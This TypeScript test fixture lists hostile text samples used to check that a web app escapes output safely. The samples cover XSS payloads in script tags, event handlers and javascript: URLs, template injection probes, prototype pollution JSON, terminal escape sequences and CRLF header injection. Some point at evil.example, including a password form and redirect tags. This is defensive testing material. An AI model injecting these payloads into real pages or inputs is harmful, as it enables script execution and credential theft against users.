/**
 * Texts that try to become more than text: in HTML, in attributes, in addresses, in styles, in Markdown, in templates, in
 * a terminal. Each stands for a way in which a page could be broken. `marked`: a page that shows it as markup has an
 * element or an attribute with this mark.
 */
export const MARK = 'hostile-mark';

export type HostileText = {
  way: string;
  text: string;
  /** The API refuses it, so it can come only from a store that was changed. */
  refused?: true;
};

export const hostileTexts: readonly HostileText[] = [
  { way: 'a script', text: `<script id="${MARK}">alert(1)</script>` },
  { way: 'the end of a script', text: `</script><script id=${MARK}>alert(1)</script>` },
  { way: 'a handler of an error', text: `<img src=x id=${MARK} onerror=alert(1)>` },
  { way: 'a tag that does not end', text: `<img src=x ${MARK} onerror=alert(1) ` },
  { way: 'the end of an attribute', text: `" ${MARK}="1" onmouseover="alert(1)" x="` },
  { way: 'the end of an attribute in single quotes', text: `' ${MARK}='1' onfocus='alert(1)' autofocus x='` },
  { way: 'an attribute without quotes', text: `x ${MARK}=1 onload=alert(1)` },
  { way: 'a handler in SVG', text: `<svg ${MARK} onload=alert(1)><animate onbegin=alert(1)>` },
  { way: 'a script in SVG', text: `<svg><script id=${MARK}>alert(1)</script></svg>` },
  {
    way: 'HTML in foreign content',
    text: `<math><mtext><table><mglyph><style><img ${MARK} src onerror=alert(1)>`,
  },
  { way: 'the end of a title', text: `</title><b ${MARK}>x</b>` },
  { way: 'the end of a text area', text: `</textarea><b ${MARK}>x</b>` },
  { way: 'the end of a style', text: `</style><b ${MARK}>x</b>` },
  { way: 'the end of a block', text: `</pre></code></details></a><b ${MARK}>x</b>` },
  { way: 'a comment', text: `<!--><b ${MARK}>x</b>-->` },
  { way: 'CDATA', text: `<![CDATA[<b ${MARK}>x</b>]]>` },
  { way: 'an address that is a script', text: `javascript:alert(1)//${MARK}` },
  { way: 'an address that is a script, hidden', text: `\tjava\nscript:alert(1)//${MARK}` },
  { way: 'an address with data', text: `data:text/html,<script id=${MARK}>alert(1)</script>` },
  { way: 'an address of another host', text: `//evil.example/${MARK}` },
  { way: 'an address that climbs', text: `../../../../${MARK}` },
  { way: 'a link in HTML', text: `<a ${MARK} href="javascript:alert(1)">x</a>` },
  { way: 'a form', text: `<form ${MARK} action=//evil.example><input name=password>` },
  { way: 'a frame', text: `<iframe ${MARK} srcdoc="<script>alert(1)</script>"></iframe>` },
  { way: 'a base', text: `<base ${MARK} href="//evil.example/">` },
  { way: 'a refresh', text: `<meta ${MARK} http-equiv=refresh content="0;url=//evil.example">` },
  { way: 'a style', text: `<style id=${MARK}>*{display:none}</style>` },
  { way: 'an inline style', text: `<p ${MARK} style="background:url(javascript:alert(1))">` },
  { way: 'a template of a server', text: `{{7*7}}\${7*7}<%= 7*7 %>#{7*7}` },
  { way: 'a template of a browser', text: `{{constructor.constructor('alert(1)')()}}` },
  {
    way: 'entities',
    text: `&lt;script id=${MARK}&gt;alert(1)&lt;/script&gt; &#60;b ${MARK}&#62; &amp;quot;`,
  },
  { way: 'JSON in a page', text: `{"__proto__":{"${MARK}":1},"constructor":{"prototype":{}}}` },
  {
    way: 'colours around HTML',
    text: `\u001b[31m<b ${MARK}>\u001b[0m\u001b[38;2;1;2;3"${MARK}="m<i ${MARK}>`,
  },
  { way: 'a link of a terminal', text: `\u001b]8;;javascript:alert(1)\u0007<b ${MARK}>\u001b]8;;\u0007` },
  { way: 'an escape that does not end', text: `\u001b]0;<b ${MARK}>` },
  {
    way: 'a stack with HTML',
    text: `Error: x\n    at <b ${MARK}> (/a/node_modules/<img ${MARK} src=x onerror=alert(1)>.js:1:1)\n    at f (src/<b ${MARK}>.ts:1:1)`,
  },
  {
    way: 'Markdown',
    text: `](javascript:alert(1)) [x](javascript:alert(1)) <b ${MARK}>\n\`\`\`\`\`\n# ${MARK}`,
  },
  { way: 'a text that turns its direction', text: `\u202egnp.\u202c\u2066<b ${MARK}>\u2069\u200f` },
  { way: 'letters of many places', text: `ﷺ𝕏🇩🇪👩‍👩‍👧‍👦a${'\u0301'.repeat(60)}<b ${MARK}>` },
  { way: 'blanks only', text: ' \u00a0\u2003\u3000 ' },
  { way: 'a name of a prototype', text: '__proto__' },
  { way: 'control characters', text: `a\u0001\u0008\u000b\u000c\u007f\u0085\u009b<b ${MARK}>` },
  { way: 'lines', text: `a\r\nb\rc\n\u2028\u2029<b ${MARK}>` },
  { way: 'a header', text: `x\r\nSet-Cookie: ${MARK}=1\r\n\r\n<b ${MARK}>` },
  { way: 'a NUL', text: `<scr\u0000ipt ${MARK}>\u0000`, refused: true },
  { way: 'halves of characters', text: `\ud800<b ${MARK}>\udfff"`, refused: true },
];
